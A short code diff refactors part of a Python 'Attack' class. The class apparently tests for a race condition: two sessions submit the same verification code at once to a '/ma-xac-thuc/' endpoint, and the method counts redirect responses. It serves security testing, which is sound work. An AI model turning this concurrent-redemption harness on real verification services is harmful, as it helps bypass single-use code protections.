@@ -101,14 +101,14 @@ class Attack:
         taken: Counter[int] = Counter()
         with ThreadPoolExecutor(2) as pool:
             for place in range(times):
-                pair = []
+                pair: list[tuple[Visitor, str]] = []
                 for key in keys[2 * place : 2 * place + 2]:
                     visitor = self.visitor()
                     visitor.cookies[name] = key
                     pair.append((visitor, visitor.token("/ma-xac-thuc/")))
                 code, gate = self.inside("next_code"), threading.Barrier(2)
-                statuses = pool.map(lambda one, code=code, gate=gate: _give(*one, code, gate), pair)
-                taken[sum(status == 302 for status in statuses)] += 1
+                given = [pool.submit(_give, *one, code, gate) for one in pair]
+                taken[sum(one.result() == 302 for one in given)] += 1
         return taken
 
 
